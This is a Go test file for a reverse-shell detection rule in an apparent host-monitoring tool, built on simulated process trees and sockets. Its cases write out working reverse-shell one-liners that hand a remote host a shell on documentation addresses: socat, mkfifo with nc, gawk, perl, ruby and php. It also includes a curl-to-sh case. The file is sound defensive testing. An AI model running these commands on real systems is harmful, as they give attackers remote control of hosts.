package detect

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/netsentinel/netsentinel/collector"
)

const pts3 = 136<<8 | 3 // tty_nr of /dev/pts/3

func revUDP(local, remote string, pid int32, uid uint32) collector.Socket {
	return collector.Socket{Proto: collector.ProtoUDP, Family: 4, State: collector.StateEstablished, Local: bldAP(local), Remote: bldAP(remote), PID: pid, UID: uid}
}

// Each case adds a relay and its shell to a base tree (sshd, a terminal).
// stdio says whether the shell's and relay's fds are readable (privileged);
// without it the relay's connection has no owner (unprivileged).
func TestRelayedShells(t *testing.T) {
	cases := []struct {
		name   string
		add    func(s *collector.Snapshot)
		entity string // "" for silence
		tech   string
		role   string
	}{
		{
			name: "socat EXEC:bash,pty: bash leads a pty session under socat, which holds the connection (privileged)",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "socat", "socat", "TCP:203.0.113.5:4444", "EXEC:bash -li,pty,stderr,setsid")
				sh := bldProc(s, 3001, 3000, "bash", "bash", "-li")
				sh.Session, sh.PGID, sh.TTY = 3001, 3001, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3"}, {FD: 1, Kind: collector.StdioPTY, Path: "/dev/pts/3"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3000))
			},
			entity: "rev:3001", tech: "T1059.004", role: relayPTY,
		},
		{
			name: "the same, unprivileged: no owner, no fds; socat's command line names the address and port",
			add: func(s *collector.Snapshot) {
				r := bldProc(s, 3000, 201, "socat", "socat", "TCP:203.0.113.5:4444", "EXEC:bash -li,pty,stderr,setsid")
				sh := bldProc(s, 3001, 3000, "bash", "bash", "-li")
				sh.Session, sh.PGID, sh.TTY = 3001, 3001, pts3
				r.UID, sh.UID = 33, 33
				c := bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0)
				c.UID = 33
				s.Sockets = append(s.Sockets, c)
			},
			entity: "rev:3001", tech: "T1059.004", role: relayPTY,
		},
		{
			name: "renamed relay, renamed shell: a pty session leader under a process with an outbound connection",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "kworker", "kworker")
				sh := bldProc(s, 3001, 3000, "dbus-helper", "dbus-helper")
				sh.Session, sh.PGID, sh.TTY = 3001, 3001, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:443", "ESTABLISHED", 3000))
			},
			entity: "rev:3001", tech: "T1059.004", role: relayPTY,
		},
		{
			name: "python pty relay: a command run in the shell, python holds the master; T1059.006",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "python3", "python3", "relay.py")
				sh := bldProc(s, 3001, 3000, "sh", "sh", "-i")
				sh.Session, sh.PGID, sh.TTY = 3001, 3001, pts3
				id := bldProc(s, 3002, 3001, "sleep", "sleep", "100")
				id.Session, id.PGID, id.TTY = 3001, 3002, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3000))
			},
			entity: "rev:3001", tech: "T1059.006", role: relayPTY,
		},
		{
			name: "a relay that double-forked: the pty master's holder (read from its fds) is not the session leader's parent",
			add: func(s *collector.Snapshot) {
				bldProc(s, 2990, 1, "kthreadd2", "kthreadd2")
				bldProc(s, 3000, 1, "x", "x")
				sh := bldProc(s, 3001, 3000, "sh", "sh")
				sh.Session, sh.TTY = 3001, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3", Peer: 2990}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 2990))
			},
			entity: "rev:3001", tech: "T1059.004", role: relayPTY,
		},
		{
			name: "mkfifo + nc: sh -i reads a pipe (from cat) and writes a pipe that nc holds",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "sh", "sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f")
				cat := bldProc(s, 3001, 3000, "cat", "cat", "/tmp/f")
				sh := bldProc(s, 3002, 3000, "sh", "sh", "-i")
				nc := bldProc(s, 3003, 3000, "nc", "nc", "203.0.113.5", "4444")
				for _, p := range []*collector.Process{cat, sh, nc} {
					p.PGID = 3000
				}
				cat.Stdio = []collector.StdioFD{{FD: 1, Kind: collector.StdioPipe, Inode: 10}}
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 10}, {FD: 1, Kind: collector.StdioPipe, Inode: 11}, {FD: 2, Kind: collector.StdioPipe, Inode: 11}}
				nc.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 11}, {FD: 1, Kind: collector.StdioFIFO, Inode: 99, Path: "/tmp/f"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3003))
			},
			entity: "rev:3002", tech: "T1059.004", role: relayPipe,
		},
		{
			name: "mkfifo + nc unprivileged: a pipeline peer of the same user names the endpoint",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "sh", "sh", "-c", "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f")
				sh := bldProc(s, 3002, 3000, "sh", "sh", "-i")
				nc := bldProc(s, 3003, 3000, "nc", "nc", "203.0.113.5", "4444")
				sh.PGID, nc.PGID = 3000, 3000
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0))
			},
			entity: "rev:3002", tech: "T1059.004",
		},
		{
			name: "socat UDP EXEC without pty: sh on a socketpair under socat's connected UDP socket",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "socat", "socat", "UDP:203.0.113.5:5353", "EXEC:sh")
				sh := bldProc(s, 3001, 3000, "sh", "sh")
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioUnix, Inode: 5}, {FD: 1, Kind: collector.StdioUnix, Inode: 5}}
				s.Sockets = append(s.Sockets, revUDP("10.0.0.5:40001", "203.0.113.5:5353", 3000, 0))
			},
			entity: "rev:3001", tech: "T1059.004", role: relayParent,
		},
		{
			name: "gawk /inet/tcp: the interpreter holds the connection and runs what it reads",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 2000, "gawk", "gawk", `BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }`)
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3000))
			},
			entity: "rev:3000", tech: "T1059.004", role: relaySelf,
		},
		{
			name: "perl IO::Socket one-liner, unprivileged: its own command line names the endpoint",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 2000, "perl", "perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`)
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0))
			},
			entity: "rev:3000", tech: "T1059", role: relaySelf,
		},
		{
			name: "unprivileged: a python relay under timeout is the holder, not relayed by its launcher",
			add: func(s *collector.Snapshot) {
				bldProc(s, 2999, 2000, "timeout", "timeout", "25", "python3", "relay.py", "203.0.113.5", "4444")
				bldProc(s, 3000, 2999, "python3", "python3", "relay.py", "203.0.113.5", "4444")
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0))
			},
		},
		{
			name: "python fetching a URL it names is no reverse shell",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 2000, "python3", "python3", "-c", `import urllib.request; urllib.request.urlopen("http://203.0.113.5:8080/")`)
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:8080", "ESTABLISHED", 3000))
			},
		},
		{
			name: "a login over sshd (inbound connection) is no reverse shell",
			add: func(s *collector.Snapshot) {
				sh := bldProc(s, 3001, 201, "bash", "-bash")
				sh.Session, sh.TTY = 3001, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3"}}
				s.Sockets = append(s.Sockets, bldListen("0.0.0.0:22", 200), bldTCP("10.0.0.5:22", "203.0.113.5:50000", "ESTABLISHED", 201))
			},
		},
		{
			name: "curl | sh with output to the terminal: stdin fed by the network, but by curl's pipe... still commands from the network",
			add: func(s *collector.Snapshot) {
				curl := bldProc(s, 3001, 2000, "curl", "curl", "https://203.0.113.5/x.sh")
				sh := bldProc(s, 3002, 2000, "sh", "sh")
				curl.PGID, sh.PGID = 3001, 3001
				curl.Stdio = []collector.StdioFD{{FD: 1, Kind: collector.StdioPipe, Inode: 12}}
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 12}, {FD: 1, Kind: collector.StdioPTY, Path: "/dev/pts/0"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:443", "ESTABLISHED", 3001))
			},
			entity: "rev:3002", tech: "T1059.004", role: relayPipe,
		},
		{
			name: "nc | x | nc: a renamed shell without options, judged by its stdio alone",
			add: func(s *collector.Snapshot) {
				in := bldProc(s, 3001, 2000, "kworker", "kworker", "203.0.113.5", "4444")
				x := bldProc(s, 3002, 2000, "x", "/tmp/x")
				out := bldProc(s, 3003, 2000, "kworker", "kworker", "203.0.113.5", "4445")
				in.Stdio = []collector.StdioFD{{FD: 1, Kind: collector.StdioPipe, Inode: 20}}
				x.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 20}, {FD: 1, Kind: collector.StdioPipe, Inode: 21}}
				out.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 21}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3001),
					bldTCP("10.0.0.5:40002", "203.0.113.5:4445", "ESTABLISHED", 3003))
			},
			entity: "rev:3002", tech: "T1059", role: relayPipe,
		},
		{
			name: "ssh a 'tar c' | pv | ssh b 'tar x': a copy between two hosts",
			add: func(s *collector.Snapshot) {
				in := bldProc(s, 3001, 2000, "ssh", "ssh", "203.0.113.5", "tar c /srv")
				pv := bldProc(s, 3002, 2000, "pv", "pv")
				out := bldProc(s, 3003, 2000, "ssh", "ssh", "203.0.113.6", "tar x")
				in.Stdio = []collector.StdioFD{{FD: 1, Kind: collector.StdioPipe, Inode: 20}}
				pv.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 20}, {FD: 1, Kind: collector.StdioPipe, Inode: 21}}
				out.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 21}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:22", "ESTABLISHED", 3001),
					bldTCP("10.0.0.5:40002", "203.0.113.6:22", "ESTABLISHED", 3003))
			},
		},
		{
			name: "curl | jq | tee: input from the network, output stays local",
			add: func(s *collector.Snapshot) {
				curl := bldProc(s, 3001, 2000, "curl", "curl", "https://203.0.113.5/api")
				jq := bldProc(s, 3002, 2000, "jq", "jq", ".items")
				tee := bldProc(s, 3003, 2000, "tee", "tee", "out.json")
				curl.Stdio = []collector.StdioFD{{FD: 1, Kind: collector.StdioPipe, Inode: 20}}
				jq.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 20}, {FD: 1, Kind: collector.StdioPipe, Inode: 21}}
				tee.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 21}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:443", "ESTABLISHED", 3001))
			},
		},
		{
			name: "a script piping its output to nc, stdin a file: not a shell talking to the network",
			add: func(s *collector.Snapshot) {
				sh := bldProc(s, 3002, 2000, "sh", "sh", "backup.sh")
				nc := bldProc(s, 3003, 2000, "nc", "nc", "203.0.113.5", "9000")
				sh.PGID, nc.PGID = 3002, 3002
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/0"}, {FD: 1, Kind: collector.StdioPipe, Inode: 13}}
				nc.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPipe, Inode: 13}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:9000", "ESTABLISHED", 3003))
			},
		},
		{
			name: "an allowed agent (amazon-ssm-agent) relaying a session",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 1, "ssm-session-wor", "/usr/bin/ssm-session-worker", "abc")
				sh := bldProc(s, 3001, 3000, "sh", "sh")
				sh.Session, sh.TTY = 3001, pts3
				sh.Stdio = []collector.StdioFD{{FD: 0, Kind: collector.StdioPTY, Path: "/dev/pts/3"}}
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:443", "ESTABLISHED", 3000))
			},
		},
		{
			name: "unprivileged: the relay's command line names the address but another port",
			add: func(s *collector.Snapshot) {
				bldProc(s, 3000, 201, "socat", "socat", "TCP:203.0.113.5:4444", "EXEC:bash -li,pty,stderr,setsid")
				sh := bldProc(s, 3001, 3000, "bash", "bash", "-li")
				sh.Session, sh.TTY = 3001, pts3
				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:44444", "ESTABLISHED", 0))
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d, err := newSpawn(*defaultSpawnConfig())
			if err != nil {
				t.Fatal(err)
			}
			env := bldEnv()
			s := spawnBase(1)
			bldProc(s, 2000, 201, "bash", "-bash")
			tc.add(s)
			var got []Alert
			for _, a := range d.Detect(s, env) {
				if a.RuleID == RuleReverseShell {
					got = append(got, a)
				}
			}
			if tc.entity == "" {
				if len(got) != 0 {
					t.Fatalf("want silence, got %+v", got)
				}
				return
			}
			a := bldFind(got, tc.entity)
			if a == nil {
				t.Fatalf("no alert %q in %+v", tc.entity, got)
			}
			if len(got) != 1 {
				t.Errorf("%d reverse-shell alerts, want 1: %+v", len(got), got)
			}
			if a.Technique != tc.tech || a.Dest.Addr() != netip.MustParseAddr("203.0.113.5") || a.Process == nil {
				t.Errorf("alert %+v", a)
			}
			if tc.role != "" && a.Evidence["relay_role"] != tc.role {
				t.Errorf("relay role %v, want %s; %s", a.Evidence["relay_role"], tc.role, a.Message)
			}
			if _, inferred := a.Evidence["owner"]; inferred != strings.Contains(tc.name, "unprivileged") {
				t.Errorf("owner inferred = %v; evidence %v", inferred, a.Evidence)
			}
			t.Log(a.Message)
		})
	}
}

func TestShellShaped(t *testing.T) {
	for _, tc := range []struct {
		cmd  []string
		want bool
	}{
		{[]string{"-bash"}, true},
		{[]string{"x", "-i"}, true},
		{[]string{"/tmp/kworker", "-li"}, true},
		{[]string{"dash", "-e", "-c", "id"}, true},
		{[]string{"timeout", "25", "sh", "-c", "id"}, false},
		{[]string{"timeout", "-s", "KILL", "25", "sh", "-i"}, false},
		{[]string{"nginx", "-g", "daemon off;"}, false},
		{[]string{"-"}, false},
		{nil, false},
	} {
		if got := shellShaped(&collector.Process{Cmdline: tc.cmd}); got != tc.want {
			t.Errorf("shellShaped(%q) = %v, want %v", tc.cmd, got, tc.want)
		}
	}
}

func TestNamesEndpoint(t *testing.T) {
	ap := netip.MustParseAddrPort("198.51.100.2:4444")
	for line, want := range map[string]bool{
		"socat TCP:198.51.100.2:4444 EXEC:sh":                     true,
		"nc 198.51.100.2 4444":                                    true,
		"gawk BEGIN{s=\"/inet/tcp/0/198.51.100.2/4444\"}":         true,
		`python3 -c s.connect(("198.51.100.2",4444))`:             true,
		"nc 198.51.100.23 4444":                                   false,
		"nc 198.51.100.2 44441":                                   false,
		"nc 198.51.100.2 14444":                                   false,
		"nc 10.198.51.100.2 4444":                                 false,
		"curl http://198.51.100.2/ --connect-timeout 4444":        true, // both tokens, as a relay would name them
		"ssh 198.51.100.2":                                        false,
		"socat UDP-RECVFROM:4444 TCP:198.51.100.2:80 EXEC:/bin/x": true,
	} {
		if got := namesEndpoint(line, ap); got != want {
			t.Errorf("namesEndpoint(%q) = %v, want %v", line, got, want)
		}
	}
}

func TestReverseIdiomsOfInterpreters(t *testing.T) {
	for _, tc := range []struct {
		cmd  []string
		want bool
	}{
		{[]string{"gawk", `BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while(1) { s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } }`}, true},
		{[]string{"awk", `BEGIN{s="/inet/udp/0/198.51.100.2/53"}`}, true},
		{[]string{"perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"198.51.100.2:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`}, true},
		{[]string{"perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("198.51.100.2")));open(STDIN,">&S");exec("/bin/sh -i");`}, true},
		{[]string{"ruby", "-rsocket", "-e", `c=TCPSocket.new("198.51.100.2",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end`}, true},
		{[]string{"php", "-r", `$sock=fsockopen("198.51.100.2",4444);exec("/bin/sh -i <&3 >&3 2>&3");`}, true},
		{[]string{"perl", "-e", `print "hello\n"`}, false},
		{[]string{"ruby", "-e", `puts TCPSocket`}, false},
		{[]string{"awk", "-F:", "{print $1}", "/etc/passwd"}, false},
	} {
		if got := reverseIdiom(tc.cmd) != ""; got != tc.want {
			t.Errorf("reverseIdiom(%q) = %q, want idiom %v", tc.cmd, reverseIdiom(tc.cmd), tc.want)
		}
	}
}
